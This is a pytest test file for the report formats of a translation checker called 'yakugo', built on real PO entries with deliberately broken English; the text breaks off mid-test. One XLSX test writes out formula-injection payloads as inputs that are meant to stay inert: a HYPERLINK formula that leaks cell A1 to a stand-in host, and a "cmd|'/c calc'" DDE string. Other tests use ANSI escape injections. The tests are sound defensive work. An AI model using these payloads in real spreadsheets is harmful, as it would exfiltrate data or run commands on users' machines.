"""The report formats of ``yakugo check``: text, JSON, SARIF, JUnit XML, XLSX and HTML.

The findings are shaped like the checker's: real sentences of the project's
PO file with deliberately broken English translations, the real glossary's
concepts and renderings, and the PO line of each entry's msgid.
"""

from __future__ import annotations

import functools
import io
import json
import re
import shutil
import subprocess
import zipfile
from dataclasses import replace
from pathlib import Path

import jsonschema
import lxml.html
import polib
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.rich_text import CellRichText, TextBlock

from conftest import REPO
from yakugo.checks.model import CHECKS, Finding, Result, Summary
from yakugo.cli import main
from yakugo.errors import YakugoError
from yakugo.glossary.tbx import read_tbx
from yakugo.glossary.xmlsafe import parse_xml
from yakugo.report import BINARY_FORMATS, FORMATS, render
from yakugo.report.sanitize import xml_safe
from yakugo.report.xlsx import HEADERS

EN_PO = "translations/en/dowj2018_II-4-2-3_alliance_initiatives.po"
# A British-English copy of the project's PO file: the glossary forbids British spellings.
GB_PO = "translations/en-GB/dowj2018_II-4-2-3_alliance_initiatives.po"
SARIF_SCHEMA = Path(__file__).parent / "data" / "sarif-schema-2.1.0.json"
VERSION = "0.1.0"

PO_TEXT = (REPO / EN_PO).read_text(encoding="utf-8")
ENTRIES = [entry for entry in polib.pofile(str(REPO / EN_PO)) if not entry.obsolete]
GLOSSARY = read_tbx(REPO / "glossary" / "glossary.tbx")[0]


def entry(start: str) -> polib.POEntry:
    """The project's one entry whose Japanese starts with ``start``."""
    found = [e for e in ENTRIES if e.msgid.startswith(start)]
    assert len(found) == 1, start
    return found[0]


def msgid_line(msgid: str) -> int:
    """The line of ``msgid "..."`` in the PO file (files are written unwrapped), as the checker reports it."""
    return PO_TEXT.splitlines().index(f'msgid "{polib.escape(msgid)}"') + 1


def span(text: str, part: str) -> tuple[int, int]:
    start = text.index(part)
    return start, start + len(part)


def concept(japanese: str):
    """The glossary concept with this Japanese term."""
    found = [c for c in GLOSSARY if any(t.text == japanese for t in c.terms_in("ja"))]
    assert len(found) == 1, japanese
    return found[0]


def finding(msgid: str, msgstr: str, check: str, message: str, *, path: str = EN_PO, source: str | None = None,
            target: str | None = None, term: str | None = None, suppressed: str | None = None) -> Finding:
    """A finding as the checker makes it: severity from CHECKS, spans found in the real text."""
    found = concept(term) if term else None
    return Finding(path=path, line=msgid_line(msgid), msgid=msgid, msgstr=msgstr, check=check,
                   severity=CHECKS[check].severity, message=message,
                   source_span=span(msgid, source) if source else None,
                   target_span=span(msgstr, target) if target else None,
                   concept=found.id if found else None, term=term,
                   renderings=tuple(t.text for t in found.accepted("en")) if found else (),
                   suppressed=suppressed)


def result_of(findings: list[Finding], suppressed: list[Finding], files: int = 1) -> Result:
    summary = Summary(files=files, entries=files * len(ENTRIES),
                      errors=sum(f.severity == "error" for f in findings),
                      warnings=sum(f.severity == "warning" for f in findings), suppressed=len(suppressed))
    for f in findings:
        summary.by_check[f.check] = summary.by_check.get(f.check, 0) + 1
    return Result(findings, suppressed, summary)


ACM = entry("15(平成27)年11月、日米両政府は、ガイドラインに基づき、日本").msgid
ACM_BROKEN = ("In November 2016, based on the Guidelines, the Japanese and U.S. governments established the "
              "Alliance Adjustment Mechanism to respond seamlessly and effectively to situations that affect the "
              "peace and security of Japan and to any other situation that may require an Alliance response.")
STRUCTURE = entry("同メカニズムでは、図表II-4-2-3").msgid
STRUCTURE_BROKEN = ("Under the Mechanism, based on the structure shown in Fig. II-4-2-4, policy and operational "
                    "coordination is carried out on activities of the Self-Defense Forces and US Forces at every "
                    "stage from peacetime to contingencies, and timely information sharing and common situational "
                    "awareness are built and maintained.")
KUMAMOTO = entry("同メカニズムの設置以降").msgid
KUMAMOTO_BROKEN = ("Since the Mechanism was established,  Japan and the United States have worked closely "
                   "together, also using the Mechanism, on events such as the 2016 熊本地震, North Korea's "
                   "ballistic missile launches and Chinese activities in the waters and airspace around the "
                   "Senkaku Islands.")
HEADING = entry("(1)同盟調整メカニズムの設置").msgid
FIGURE = entry("図表II-4-2-3 同盟調整メカニズム(ACM)の構成").msgid
GUIDELINES = entry("ガイドラインでは、「日本の平和及び安全の切れ目のない確保」").msgid
GUIDELINES_EN = ("The Guidelines state that, to ensure the peace and security of Japan seamlessly, the two "
                 "countries will take measures such as Intelligence, Surveillance and Reconnaissance (ISR) "
                 "activities, air defense and missile defense, maritime security, and joint training and "
                 "exercises, and will cooperate in responding to large-scale disasters in Japan.")
GUIDELINES_GB = GUIDELINES_EN.replace("air defense and missile defense", "air defence and missile defence")

NUMBER = finding(ACM, ACM_BROKEN, "number-mismatch", "2015 (15(平成27)年) is missing from the translation; it has 2016",
                 source="15(平成27)年", target="2016")
ACM_FORBIDDEN = finding(ACM, ACM_BROKEN, "term-forbidden",
                        "'Alliance Adjustment Mechanism' is forbidden for 同盟調整メカニズム; "
                        "use Alliance Coordination Mechanism or ACM",
                        source="同盟調整メカニズム", target="Alliance Adjustment Mechanism", term="同盟調整メカニズム")
CROSSREF = finding(STRUCTURE, STRUCTURE_BROKEN, "crossref-mismatch", "図表II-4-2-3 is Fig. II-4-2-3, not Fig. II-4-2-4",
                   source="図表II-4-2-3", target="Fig. II-4-2-4")
US_FORCES = finding(STRUCTURE, STRUCTURE_BROKEN, "term-forbidden", "'US Forces' is forbidden for 米軍; use U.S. Forces",
                    source="米軍", target="US Forces", term="米軍")
LEFT_JAPANESE = finding(KUMAMOTO, KUMAMOTO_BROKEN, "source-text-in-target",
                        "Japanese text left in the translation: 熊本地震", source="熊本地震", target="熊本地震")
KUMAMOTO_MISSING = finding(KUMAMOTO, KUMAMOTO_BROKEN, "term-missing",
                           "熊本地震 is not translated as Kumamoto Earthquake", source="熊本地震", term="熊本地震")
DOUBLE_SPACE = finding(KUMAMOTO, KUMAMOTO_BROKEN, "double-space", "two spaces in a row", target="  ")
UNTRANSLATED = finding(HEADING, "", "untranslated", "not translated yet")
# ACM_BROKEN never spells out the acronym, so the figure title is its first use.
FIGURE_ACRONYM = finding(FIGURE, "Fig. II-4-2-3 Structure of the ACM", "abbreviation-first-use",
                         "first use of ACM: write 'Alliance Coordination Mechanism (ACM)'",
                         source="同盟調整メカニズム(ACM)", target="ACM", term="同盟調整メカニズム",
                         suppressed="figure titles keep the acronym alone, as the original figure does")
AIR_DEFENCE = finding(GUIDELINES, GUIDELINES_GB, "term-forbidden",
                      "'air defence' is forbidden for 防空; use air defense",
                      path=GB_PO, source="防空", target="air defence", term="防空")
MISSILE_DEFENCE = finding(GUIDELINES, GUIDELINES_GB, "term-forbidden",
                          "'missile defence' is forbidden for ミサイル防衛; use missile defense",
                          path=GB_PO, source="ミサイル防衛", target="missile defence", term="ミサイル防衛")

ACTIVE = [NUMBER, ACM_FORBIDDEN, CROSSREF, US_FORCES, KUMAMOTO_MISSING, LEFT_JAPANESE, DOUBLE_SPACE, UNTRANSLATED,
          AIR_DEFENCE, MISSILE_DEFENCE]
RESULT = result_of(ACTIVE, [FIGURE_ACRONYM], files=2)


def test_the_findings_use_real_entries_lines_and_renderings():
    assert NUMBER.line < CROSSREF.line < LEFT_JAPANESE.line  # document order
    assert PO_TEXT.splitlines()[NUMBER.line - 1].startswith('msgid "15(平成27)年11月')
    assert ACM_FORBIDDEN.concept == "c001-acm"
    assert ACM_FORBIDDEN.renderings == ("Alliance Coordination Mechanism", "ACM")
    assert US_FORCES.renderings == ("U.S. Forces", "U.S. military")
    assert "air defence" in [t.text for t in concept("防空").forbidden("en")]


# --- text ------------------------------------------------------------------------------------------


def test_text_is_one_gnu_line_per_active_finding_then_the_summary():
    lines = render(RESULT, "text", tool_version=VERSION).decode("utf-8").splitlines()
    acm, structure, kumamoto, heading = NUMBER.line, CROSSREF.line, LEFT_JAPANESE.line, UNTRANSLATED.line
    assert lines == [
        f"{EN_PO}:{acm}: error: 2015 (15(平成27)年) is missing from the translation; it has 2016 [number-mismatch]",
        f"{EN_PO}:{acm}: error: 'Alliance Adjustment Mechanism' is forbidden for 同盟調整メカニズム; "
        "use Alliance Coordination Mechanism or ACM [term-forbidden]",
        f"{EN_PO}:{structure}: error: 図表II-4-2-3 is Fig. II-4-2-3, not Fig. II-4-2-4 [crossref-mismatch]",
        f"{EN_PO}:{structure}: error: 'US Forces' is forbidden for 米軍; use U.S. Forces [term-forbidden]",
        f"{EN_PO}:{kumamoto}: error: 熊本地震 is not translated as Kumamoto Earthquake [term-missing]",
        f"{EN_PO}:{kumamoto}: error: Japanese text left in the translation: 熊本地震 [source-text-in-target]",
        f"{EN_PO}:{kumamoto}: warning: two spaces in a row [double-space]",
        f"{EN_PO}:{heading}: warning: not translated yet [untranslated]",
        f"{GB_PO}:{AIR_DEFENCE.line}: error: 'air defence' is forbidden for 防空; use air defense [term-forbidden]",
        f"{GB_PO}:{AIR_DEFENCE.line}: error: 'missile defence' is forbidden for ミサイル防衛; "
        "use missile defense [term-forbidden]",
        "8 errors, 2 warnings, 1 suppressed; checked 2 files, 248 entries",
    ]


def test_text_colours_severity_and_dims_the_check_id_only_when_asked():
    plain = render(RESULT, "text", tool_version=VERSION).decode("utf-8")
    coloured = render(RESULT, "text", color=True, tool_version=VERSION).decode("utf-8")
    assert "\x1b" not in plain
    lines = coloured.splitlines()
    assert lines[0] == (f"{EN_PO}:{NUMBER.line}: \x1b[1;31merror\x1b[0m: 2015 (15(平成27)年) is missing from the "
                        "translation; it has 2016 \x1b[2m[number-mismatch]\x1b[0m")
    assert lines[6] == (f"{EN_PO}:{DOUBLE_SPACE.line}: \x1b[1;35mwarning\x1b[0m: two spaces in a row "
                        "\x1b[2m[double-space]\x1b[0m")
    assert re.sub("\x1b\\[[0-9;]*m", "", coloured) == plain


def test_text_shows_control_characters_as_escapes_and_stays_one_line_per_finding():
    hostile = finding(ACM, ACM_BROKEN + "\x1b[2J", "end-punctuation", "ends with '\x1b[2J'\nnot with '.'\r")
    lines = render(result_of([hostile], []), "text", tool_version=VERSION).decode("utf-8").splitlines()
    assert lines == [f"{EN_PO}:{hostile.line}: warning: ends with '\\x1b[2J'\\nnot with '.'\\r [end-punctuation]",
                     "0 errors, 1 warning, 0 suppressed; checked 1 file, 124 entries"]


def test_text_with_nothing_found_is_only_the_summary():
    assert render(result_of([], []), "text", tool_version=VERSION) == \
        "0 errors, 0 warnings, 0 suppressed; checked 1 file, 124 entries\n".encode()


# --- JSON ------------------------------------------------------------------------------------------


def test_json_has_findings_suppressed_and_summary_with_utf8_unescaped():
    data = render(RESULT, "json", tool_version=VERSION)
    assert "同盟調整メカニズム".encode("utf-8") in data and b"\\u" not in data
    report = json.loads(data)
    assert list(report) == ["findings", "suppressed", "summary"]
    assert [f["check"] for f in report["findings"]] == [f.check for f in ACTIVE]
    first = report["findings"][1]
    assert list(first) == ["path", "line", "msgid", "msgstr", "check", "severity", "message", "source_span",
                           "target_span", "concept", "term", "renderings"]
    assert first["concept"] == "c001-acm" and first["renderings"] == ["Alliance Coordination Mechanism", "ACM"]
    assert ACM_BROKEN[slice(*first["target_span"])] == "Alliance Adjustment Mechanism"
    assert report["suppressed"] == [FIGURE_ACRONYM.as_dict()]
    assert report["suppressed"][0]["suppressed"].startswith("figure titles keep")
    assert report["summary"] == {"files": 2, "entries": 248, "errors": 8, "warnings": 2, "suppressed": 1,
                                 "by_check": {"crossref-mismatch": 1, "double-space": 1, "number-mismatch": 1,
                                              "source-text-in-target": 1, "term-forbidden": 4, "term-missing": 1,
                                              "untranslated": 1}}


# --- SARIF -----------------------------------------------------------------------------------------


def sarif_of(result: Result) -> dict:
    return json.loads(render(result, "sarif", tool_version=VERSION))


@functools.cache
def official_sarif_validator():
    """A validator for the vendored official schema, or None when the file is absent."""
    if not SARIF_SCHEMA.exists():
        return None
    schema = json.loads(SARIF_SCHEMA.read_text(encoding="utf-8"))
    validator_class = jsonschema.validators.validator_for(schema)
    validator_class.check_schema(schema)
    return validator_class(schema)


@pytest.fixture
def sarif_validator():
    validator = official_sarif_validator()
    if validator is None:
        pytest.skip(f"the official SARIF 2.1.0 schema is not at {SARIF_SCHEMA} (see tests/data/README.md)")
    return validator


def test_sarif_is_valid_against_the_official_schema(sarif_validator):
    log = sarif_of(RESULT)
    sarif_validator.validate(log)
    broken = json.loads(json.dumps(log))
    broken["runs"][0]["results"][0]["level"] = "fatal"
    assert not sarif_validator.is_valid(broken)  # the schema is really checking


def test_sarif_rules_are_every_check_with_its_default_level():
    run = sarif_of(RESULT)["runs"][0]
    driver = run["tool"]["driver"]
    assert (driver["name"], driver["version"]) == ("yakugo", VERSION)
    assert [rule["id"] for rule in driver["rules"]] == list(CHECKS)
    for rule in driver["rules"]:
        check = CHECKS[rule["id"]]
        assert rule["shortDescription"]["text"] == check.summary
        assert rule["defaultConfiguration"]["level"] == check.severity


def test_sarif_results_place_each_finding_and_keep_suppressed_ones_with_their_reason():
    run = sarif_of(RESULT)["runs"][0]
    results = run["results"]
    assert len(results) == len(ACTIVE) + 1
    forbidden = results[1]
    assert forbidden["ruleId"] == "term-forbidden" and forbidden["level"] == "error"
    assert run["tool"]["driver"]["rules"][forbidden["ruleIndex"]]["id"] == "term-forbidden"
    assert forbidden["message"]["text"] == ACM_FORBIDDEN.message
    assert forbidden["locations"] == [{"physicalLocation": {"artifactLocation": {"uri": EN_PO},
                                                            "region": {"startLine": ACM_FORBIDDEN.line}}}]
    assert forbidden["properties"]["concept"] == "c001-acm"
    assert forbidden["properties"]["msgid"] == ACM
    assert "suppressions" not in forbidden
    silenced = results[-1]
    assert (silenced["ruleId"], silenced["level"]) == ("abbreviation-first-use", "warning")
    assert silenced["suppressions"] == [{"kind": "inSource", "justification": FIGURE_ACRONYM.suppressed}]


def test_sarif_fingerprints_follow_a_finding_across_line_moves_and_tell_findings_apart():
    def fingerprints(findings):
        results = sarif_of(result_of(findings, []))["runs"][0]["results"]
        return [r["partialFingerprints"]["yakugoFinding/v1"] for r in results]

    moved = Finding(**{**ACM_FORBIDDEN.__dict__, "line": ACM_FORBIDDEN.line + 40})
    assert fingerprints([ACM_FORBIDDEN]) == fingerprints([moved])
    every = fingerprints(ACTIVE)
    assert len(set(every)) == len(every)
    # the same check on the same sentence for two different terms, and a repeated identical finding
    assert fingerprints([AIR_DEFENCE, MISSILE_DEFENCE])[0] != fingerprints([AIR_DEFENCE, MISSILE_DEFENCE])[1]
    first, second = fingerprints([CROSSREF, CROSSREF])
    assert first.split(":")[0] == second.split(":")[0] and (first[-2:], second[-2:]) == (":1", ":2")


def test_sarif_uris_are_percent_encoded_relative_references_or_file_uris():
    japanese = Finding(**{**UNTRANSLATED.__dict__, "path": "translations/en/防衛白書 2018.po"})
    absolute = Finding(**{**UNTRANSLATED.__dict__, "path": "/srv/project/translations/en/doc.po"})
    windows = Finding(**{**UNTRANSLATED.__dict__, "path": "translations\\en\\doc.po"})
    drive = Finding(**{**UNTRANSLATED.__dict__, "path": "C:\\project\\translations\\en\\doc.po"})
    no_line = Finding(**{**UNTRANSLATED.__dict__, "line": 0})
    results = sarif_of(result_of([japanese, absolute, windows, drive, no_line], []))["runs"][0]["results"]
    locations = [r["locations"][0]["physicalLocation"] for r in results]
    assert locations[0]["artifactLocation"]["uri"] == "translations/en/%E9%98%B2%E8%A1%9B%E7%99%BD%E6%9B%B8%202018.po"
    assert locations[1]["artifactLocation"]["uri"] == "file:///srv/project/translations/en/doc.po"
    assert locations[2]["artifactLocation"]["uri"] == "translations/en/doc.po"
    assert locations[3]["artifactLocation"]["uri"] == "file:///C:/project/translations/en/doc.po"
    assert "region" not in locations[4]  # SARIF lines start at 1


# --- JUnit -----------------------------------------------------------------------------------------


def junit_suites(data: bytes) -> list:
    """The report as junitparser, a JUnit reader CI tools use, reads it back."""
    junitparser = pytest.importorskip("junitparser", reason="junitparser is in the [test] extra")
    return list(junitparser.JUnitXml.fromstring(data))


def test_junit_is_read_by_junitparser_one_suite_per_file_one_case_per_entry():
    data = render(RESULT, "junit", tool_version=VERSION)
    parse_xml(data)
    suites = junit_suites(data)
    assert [s.name for s in suites] == [EN_PO, GB_PO]
    english, british = suites
    assert (english.tests, english.failures, english.errors) == (4, 3, 0)
    assert (british.tests, british.failures) == (1, 1)
    cases = list(english)
    assert [c.classname for c in cases] == ["translations.en.dowj2018_II-4-2-3_alliance_initiatives"] * 4
    assert cases[0].name.startswith(f"line {NUMBER.line}: 15(平成27)年11月、日米両政府は")
    assert len(cases[0].name) == len(f"line {NUMBER.line}: ") + 80 and cases[0].name.endswith("…")
    [failure] = cases[0].result
    assert type(failure).__name__ == "Failure"
    assert failure.type == "number-mismatch term-forbidden"
    assert failure.message == f"{NUMBER.message}; {ACM_FORBIDDEN.message}"
    assert failure.text.splitlines() == [
        f"{EN_PO}:{NUMBER.line}: error: {NUMBER.message} [number-mismatch]",
        f"{EN_PO}:{NUMBER.line}: error: {ACM_FORBIDDEN.message} [term-forbidden]",
        f"msgid: {ACM}", f"msgstr: {ACM_BROKEN}"]


def test_junit_warnings_pass_with_system_out_and_suppressed_findings_are_left_out():
    cases = list(junit_suites(render(RESULT, "junit", tool_version=VERSION))[0])
    kumamoto, heading = cases[2], cases[3]
    assert [type(r).__name__ for r in kumamoto.result] == ["Failure"]
    assert kumamoto.system_out == f"{EN_PO}:{DOUBLE_SPACE.line}: warning: two spaces in a row [double-space]"
    assert heading.result == [] and heading.is_passed
    assert heading.system_out == f"{EN_PO}:{UNTRANSLATED.line}: warning: not translated yet [untranslated]"
    assert all(FIGURE[:20] not in c.name for c in cases)


def test_junit_root_totals_and_an_empty_result():
    root = parse_xml(render(RESULT, "junit", tool_version=VERSION))
    assert (root.tag, root.get("tests"), root.get("failures")) == ("testsuites", "5", "4")
    empty = parse_xml(render(result_of([], []), "junit", tool_version=VERSION))
    assert (len(empty), empty.get("tests"), empty.get("failures")) == (0, "0", "0")


def test_junit_shows_files_without_findings_as_one_passing_case():
    result = replace(RESULT, files=[EN_PO, "translations/en/clean.po", GB_PO])
    suites = junit_suites(render(result, "junit", tool_version=VERSION))
    assert [s.name for s in suites] == [EN_PO, "translations/en/clean.po", GB_PO]
    [case] = list(suites[1])
    assert (case.name, case.classname, case.is_passed) == ("no findings", "translations.en.clean", True)
    assert (suites[1].tests, suites[1].failures) == (1, 0)
    assert [s.tests for s in suites] == [4, 1, 1]


# --- XLSX ------------------------------------------------------------------------------------------


def workbook_of(result: Result):
    return load_workbook(io.BytesIO(render(result, "xlsx", tool_version=VERSION)), rich_text=True)


def runs(value) -> list[tuple[str, bool]]:
    """A cell value as (text, highlighted) runs."""
    if isinstance(value, CellRichText):
        return [(part.text, True) if isinstance(part, TextBlock) else (part, False) for part in value]
    return [(value, False)] if value else []


def test_xlsx_rows_hold_the_findings_with_the_problem_highlighted():
    sheet = workbook_of(RESULT)["Findings"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == HEADERS
    assert len(rows) == 1 + len(ACTIVE) + 1
    forbidden = dict(zip(HEADERS, rows[2], strict=True))
    assert (forbidden["File"], forbidden["Line"], forbidden["Severity"], forbidden["Check"]) == \
        (EN_PO, ACM_FORBIDDEN.line, "error", "term-forbidden")
    start = ACM.index("同盟調整メカニズム")
    assert runs(forbidden["Japanese"]) == [(ACM[:start], False), ("同盟調整メカニズム", True),
                                           (ACM[start + len("同盟調整メカニズム"):], False)]
    assert [text for text, marked in runs(forbidden["English"]) if marked] == ["Alliance Adjustment Mechanism"]
    assert "".join(text for text, _ in runs(forbidden["English"])) == ACM_BROKEN
    assert (forbidden["Message"], forbidden["Concept"], forbidden["Source term"]) == \
        (ACM_FORBIDDEN.message, "c001-acm", "同盟調整メカニズム")
    assert forbidden["Accepted renderings"] == "Alliance Coordination Mechanism\nACM"
    assert forbidden["Suppressed"] is None
    untranslated = dict(zip(HEADERS, rows[8], strict=True))
    assert untranslated["Japanese"] == HEADING and untranslated["English"] is None  # nothing to highlight
    silenced = dict(zip(HEADERS, rows[-1], strict=True))
    assert silenced["Suppressed"] == FIGURE_ACRONYM.suppressed
    highlight = sheet.cell(3, HEADERS.index("Japanese") + 1).value[1].font
    assert highlight.b and highlight.u == "single"


def test_xlsx_has_filter_frozen_header_wrapping_widths_and_severity_colours():
    sheet = workbook_of(RESULT)["Findings"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:K{len(ACTIVE) + 2}"
    assert sheet.column_dimensions["E"].width == 62
    assert len(GB_PO) == 60 and sheet.column_dimensions["A"].width == 52  # paths widen the column up to 50
    assert all(cell.alignment.wrap_text for cell in sheet[3])
    fills = {row[2].value + ("/suppressed" if row[10].value else ""): row[2].fill.fgColor.rgb
             for row in sheet.iter_rows(min_row=2)}
    assert fills == {"error": "00FFC7CE", "warning": "00FFEB9C", "warning/suppressed": "00EDEDED"}
    assert sheet["A1"].font.b
    # rows are as tall as their wrapped sentences: five lines for the long ACM paragraph, not for a heading
    assert sheet.row_dimensions[2].height == 75
    assert sheet.row_dimensions[9].height < 75 and sheet.row_dimensions[9].height % 15 == 0


def test_xlsx_summary_sheet():
    rows = list(workbook_of(RESULT)["Summary"].iter_rows(values_only=True))
    assert rows[0] == ("yakugo check", "8 errors, 2 warnings, 1 suppressed; checked 2 files, 248 entries")
    assert ("Version", VERSION) in rows and ("Suppressed", 1) in rows and ("term-forbidden", 4) in rows


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_xlsx_formula_like_text_stays_text(start):
    # A translation that Excel would run: formula injection through a PO file.
    attack = start + 'HYPERLINK("https://example.invalid/?leak="&A1,"(1) Establishment of the ACM")'
    hostile = finding(HEADING, attack, "end-punctuation", start + "1+1", target="HYPERLINK")
    hostile = Finding(**{**hostile.__dict__, "path": start + "cmd|'/c calc'!A1", "concept": start + "c001"})
    sheet = workbook_of(result_of([hostile], []))["Findings"]
    row = sheet[2]
    shown = {"\r": "\\r"}.get(start, start)
    for cell, expected in [(row[0], shown + "cmd|'/c calc'!A1"), (row[6], shown + "1+1"), (row[7], shown + "c001")]:
        assert (cell.value, cell.data_type) == (expected, "s")
        assert cell.quotePrefix
    english = row[5]
    assert english.data_type == "s" and "".join(t for t, _ in runs(english.value)) == shown + attack[1:]
    with zipfile.ZipFile(io.BytesIO(render(result_of([hostile], []), "xlsx", tool_version=VERSION))) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_xlsx_bytes_are_fixed_timestamps_and_all():
    data = render(RESULT, "xlsx", tool_version=VERSION)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = parse_xml(archive.read("docProps/core.xml"))
    dates = core.xpath("dcterms:created/text() | dcterms:modified/text()",
                       namespaces={"dcterms": "http://purl.org/dc/terms/"})
    assert dates == ["1980-01-01T00:00:00Z"] * 2


def test_xlsx_check_report_shows_a_character_xml_cannot_hold_as_an_escape(real_project, monkeypatch):
    # A check report shows such characters rather than refusing the file: the reviewer is to see and fix them.
    po = real_project / EN_PO
    po.write_text(po.read_text(encoding="utf-8").replace('msgstr "Contents"', 'msgstr "Con\ufffetents 2015"', 1),
                  encoding="utf-8")
    monkeypatch.chdir(real_project)
    result = CliRunner().invoke(main, ["check", "--format", "xlsx", "-o", "build/check.xlsx"], catch_exceptions=False)
    assert result.exit_code == 1, result.output
    sheet = load_workbook(real_project / "build" / "check.xlsx", rich_text=True)["Findings"]
    [row] = [dict(zip(HEADERS, row, strict=True)) for row in sheet.iter_rows(min_row=2)
             if row[4].value == "Contents"]
    assert row["Line"].value == msgid_line("Contents")
    assert runs(row["English"].value) == [("Con\\ufffetents ", False), ("2015", True)]
    assert row["Message"].value == "the translation has 2015, the source does not"


# --- HTML ------------------------------------------------------------------------------------------


def page_of(result: Result):
    return lxml.html.fromstring(render(result, "html", tool_version=VERSION))


def test_html_shows_the_sentence_pair_with_lang_and_the_problem_marked():
    page = page_of(RESULT)
    assert page.get("lang") == "en"
    rows = page.xpath("//table[@id='findings']/tbody/tr")
    assert len(rows) == len(ACTIVE) + 1
    forbidden = rows[1]
    japanese, english = forbidden.xpath("td[@lang='ja']"), forbidden.xpath("td[@lang='en']")
    assert len(japanese) == len(english) == 1
    assert japanese[0].text_content() == ACM and english[0].text_content() == ACM_BROKEN
    assert [m.text for m in japanese[0].iter("mark")] == ["同盟調整メカニズム"]
    assert [m.text for m in english[0].iter("mark")] == ["Alliance Adjustment Mechanism"]
    assert forbidden.xpath("td[7]//span[@lang='ja']/text()") == ["同盟調整メカニズム"]
    assert forbidden.xpath("td[7]//span[@lang='en']/text()") == ["Alliance Coordination Mechanism; ACM"]
    number = rows[0]
    assert [m.text for m in number.iter("mark")] == ["15(平成27)年", "2016"]
    assert (number.get("data-check"), number.get("data-severity"), number.get("data-status")) == \
        ("number-mismatch", "error", "active")
    silenced = rows[-1]
    assert (silenced.get("data-status"), silenced.get("class")) == ("suppressed", "suppressed")
    assert FIGURE_ACRONYM.suppressed in silenced.text_content()


def test_html_filters_offer_the_checks_and_severities_found():
    page = page_of(RESULT)
    options = {select.get("data-filter"): [o.get("value") for o in select.iter("option")]
               for select in page.iter("select")}
    assert options == {"check": ["", "term-missing", "term-forbidden", "number-mismatch", "source-text-in-target",
                                 "untranslated", "abbreviation-first-use", "crossref-mismatch", "double-space"],
                       "severity": ["", "error", "warning"], "status": ["active", "suppressed", ""]}
    assert page.xpath("//select[@data-filter='status']/option[@selected]/@value") == ["active"]
    assert [th.get("data-type") for th in page.iter("th")] == ["text", "number"] + ["text"] * 5


def test_html_is_self_contained():
    data = render(RESULT, "html", tool_version=VERSION)
    assert data.startswith(b"<!DOCTYPE html>\n<html lang=\"en\">")
    page = lxml.html.fromstring(data)
    assert not page.xpath("//link | //img | //iframe | //object | //embed | //*[@src] | //*[@href]")
    for text in page.xpath("//style/text() | //script/text()"):
        assert not re.search(r"https?:|//[a-z]|url\(|@import|fetch\(|XMLHttpRequest", text)


def test_html_script_is_valid_javascript():
    node = shutil.which("node")
    if node is None:
        pytest.skip("node is not installed")
    script = page_of(RESULT).xpath("//script/text()")[0]
    run = subprocess.run([node, "--check", "--input-type=commonjs"], input=script, capture_output=True, text=True)
    assert run.returncode == 0, run.stderr


# What a reviewer does: sort by line, newest last first, then keep one check. Runs after the report's own script.
REVIEWER_CLICKS = """<script>
var line = document.querySelectorAll("th button")[1];
line.click(); line.click();
var check = document.querySelector("select[data-filter=check]");
check.value = "term-forbidden";
check.dispatchEvent(new Event("change"));
</script>"""


def test_html_sorts_and_filters_in_a_real_browser(tmp_path):
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if chromium is None:
        pytest.skip("chromium is not installed")
    page = render(RESULT, "html", tool_version=VERSION).decode("utf-8")

    def dom_after(html: str):
        path = tmp_path / "report.html"
        path.write_text(html, encoding="utf-8")
        run = subprocess.run([chromium, "--headless", "--no-sandbox", "--disable-gpu", "--dump-dom", path.as_uri()],
                             capture_output=True, text=True, timeout=120)
        return lxml.html.fromstring(run.stdout)

    loaded = dom_after(page)
    assert loaded.xpath("//output[@id='shown']/text()") == ["10 of 11 findings shown"]
    assert loaded.xpath("//tbody/tr[@hidden]/@data-status") == ["suppressed"]

    clicked = dom_after(page.replace("</body>", REVIEWER_CLICKS + "</body>"))
    assert clicked.xpath("//output[@id='shown']/text()") == ["4 of 11 findings shown"]
    shown = clicked.xpath("//tbody/tr[not(@hidden)]")
    assert [row.get("data-check") for row in shown] == ["term-forbidden"] * 4
    lines = [int(line) for line in clicked.xpath("//tbody/tr/td[2]/text()")]
    assert lines == sorted(lines, reverse=True) and lines[0] > lines[-1]
    assert clicked.xpath("//th[@aria-sort]/button/text()") == ["Line"]
    assert clicked.xpath("//th[@aria-sort]/@aria-sort") == ["descending"]


# --- all formats -----------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_same_result_same_bytes(fmt):
    first = render(RESULT, fmt, color=True, tool_version=VERSION)
    second = render(result_of(list(ACTIVE), [FIGURE_ACRONYM], files=2), fmt, color=True, tool_version=VERSION)
    assert first == second
    assert (fmt in BINARY_FORMATS) == (not first.startswith((b"<", b"{", b"tr")))


def test_unknown_format_is_a_user_error():
    with pytest.raises(YakugoError, match="unknown report format 'yaml'; choose one of text, json"):
        render(RESULT, "yaml", tool_version=VERSION)


# --- any text --------------------------------------------------------------------------------------

# Any text, with extra weight on what XML, HTML and terminals choke on.
TROUBLE = "\x00\x01\x08\x0b\x0c\x1b\x7f\x85\ufffe\uffff\r\t\n<&]]>"
ANY_TEXT = st.text(st.one_of(st.characters(), st.sampled_from(TROUBLE)), max_size=40)
SPANS = st.none() | st.tuples(st.integers(-3, 50), st.integers(-3, 50))


@st.composite
def any_finding(draw) -> Finding:
    check = draw(st.sampled_from(list(CHECKS)))
    return Finding(path=draw(ANY_TEXT.filter(bool)), line=draw(st.integers(0, 10**6)), msgid=draw(ANY_TEXT),
                   msgstr=draw(ANY_TEXT), check=check, severity=CHECKS[check].severity, message=draw(ANY_TEXT),
                   source_span=draw(SPANS), target_span=draw(SPANS), concept=draw(st.none() | ANY_TEXT),
                   term=draw(ANY_TEXT), suppressed=draw(st.none() | ANY_TEXT))


def marked(text: str, span: tuple[int, int] | None) -> list[str]:
    if span is None:
        return []
    start, end = (min(max(p, 0), len(text)) for p in span)
    return [xml_safe(text[start:end])] if start < end else []


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(any_finding())
def test_any_text_gives_well_formed_reports(item: Finding):
    result = result_of([item] if item.suppressed is None else [], [item] if item.suppressed is not None else [])

    data = render(result, "junit", tool_version=VERSION)
    parse_xml(data)
    suites = junit_suites(data)
    if item.suppressed is None:
        [case] = list(suites[0])
